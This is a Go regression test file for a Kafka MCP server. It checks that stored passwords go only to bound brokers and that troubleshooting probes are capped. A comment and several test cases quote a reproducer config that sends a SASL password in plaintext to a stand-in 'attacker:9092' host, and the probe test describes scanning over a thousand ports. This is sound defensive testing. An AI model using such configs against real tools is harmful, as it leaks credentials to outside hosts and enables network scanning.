package kafka

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/stream-mcp/stream-mcp/internal/config"
)

// Bug (#21.5): {"bootstrap_servers":"attacker:9092","auth":"sasl_plain",
// "sasl_plaintext":true,"password_env":"STREAM_MCP_KAFKA_X"} sent the
// password to the attacker in the clear. A password now goes only to the
// brokers it is bound to, and over plaintext only where the binding allows.
func TestCheckAdHocSecret(t *testing.T) {
	t.Parallel()
	f := NewFactory(map[string]config.Cluster{
		"prod": {BootstrapServers: "b-1.prod.example:9096,B-2.prod.example:9096", Auth: AuthSCRAM512, Username: "u", PasswordEnv: "STREAM_MCP_KAFKA_PROD"},
	}, nil, Env{}, nil)
	f.SetCredentialBindings(map[string]config.CredentialBinding{
		"STREAM_MCP_KAFKA_DEV":   {Brokers: []string{"dev.example:9092"}, AllowSASLPlaintext: true},
		"STREAM_MCP_KAFKA_STAGE": {Brokers: []string{"stage.example:9096"}, ClusterARNs: []string{"arn:aws:kafka:us-east-1:123456789012:cluster/stage/abcd"}},
	})
	cases := []struct {
		name string
		t    Target
		want string // "" = allowed
	}{
		{"no password", Target{Bootstrap: []string{"anywhere:9092"}, Auth: AuthNone}, ""},
		{"the reproducer", Target{Bootstrap: []string{"attacker:9092"}, Auth: AuthPlain, SASLPlaintext: true, PasswordEnv: "STREAM_MCP_KAFKA_X"}, "not bound to any broker"},
		{"bound broker", Target{Bootstrap: []string{"dev.example:9092"}, Auth: AuthPlain, PasswordEnv: "STREAM_MCP_KAFKA_DEV"}, ""},
		{"bound broker, plaintext allowed", Target{Bootstrap: []string{"DEV.example:9092"}, Auth: AuthPlain, SASLPlaintext: true, PasswordEnv: "STREAM_MCP_KAFKA_DEV"}, ""},
		{"bound broker plus an attacker", Target{Bootstrap: []string{"dev.example:9092", "attacker:9092"}, Auth: AuthPlain, PasswordEnv: "STREAM_MCP_KAFKA_DEV"}, "not bound to broker attacker:9092"},
		{"bound host, other port", Target{Bootstrap: []string{"dev.example:9093"}, Auth: AuthPlain, PasswordEnv: "STREAM_MCP_KAFKA_DEV"}, "not bound to broker"},
		{"plaintext not allowed", Target{Bootstrap: []string{"stage.example:9096"}, Auth: AuthSCRAM512, SASLPlaintext: true, PasswordEnv: "STREAM_MCP_KAFKA_STAGE"}, "allow_sasl_plaintext"},
		{"bound cluster ARN", Target{ClusterARN: "arn:aws:kafka:us-east-1:123456789012:cluster/stage/abcd", Auth: AuthSCRAM512, PasswordEnv: "STREAM_MCP_KAFKA_STAGE"}, ""},
		{"other cluster ARN", Target{ClusterARN: "arn:aws:kafka:us-east-1:999999999999:cluster/evil/abcd", Auth: AuthSCRAM512, PasswordEnv: "STREAM_MCP_KAFKA_STAGE"}, "not bound to cluster"},
		{"a named cluster's brokers bind its variable", Target{Bootstrap: []string{"b-2.prod.example:9096"}, Auth: AuthSCRAM512, PasswordEnv: "STREAM_MCP_KAFKA_PROD"}, ""},
		{"a named cluster's variable to another broker", Target{Bootstrap: []string{"attacker:9096"}, Auth: AuthSCRAM512, PasswordEnv: "STREAM_MCP_KAFKA_PROD"}, "not bound to broker"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			err := f.CheckAdHocSecret(tc.t)
			if (tc.want == "") != (err == nil) || (err != nil && !strings.Contains(err.Error(), tc.want)) {
				t.Fatalf("err %v, want %q", err, tc.want)
			}
		})
	}
}

// Bug (#21.5): kafka_troubleshoot probed 1,027 host:port pairs in one call.
// A probe contacts at most MaxProbeAddresses distinct addresses and says so.
func TestProbeIsBounded(t *testing.T) {
	t.Parallel()
	var addrs []string
	for i := 0; i < 1027; i++ {
		addrs = append(addrs, fmt.Sprintf("127.0.0.1:%d", 1+i%1000)) // refused at once
	}
	e := Env{MaxProbeAddresses: 10, ProbeCapSource: "https://docs.aws.amazon.com/lambda/latest/api/API_SelfManagedEventSource.html"}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	rep := e.Probe(ctx, Target{Bootstrap: addrs, Auth: AuthNone}, ProbeOptions{Timeout: time.Second})
	if len(rep.Addresses) != 10 {
		t.Fatalf("probed %d addresses", len(rep.Addresses))
	}
	if !strings.Contains(rep.Note, "first 10 of 1000 distinct") || !strings.Contains(rep.Note, "API_SelfManagedEventSource") {
		t.Fatalf("note %q", rep.Note)
	}
}
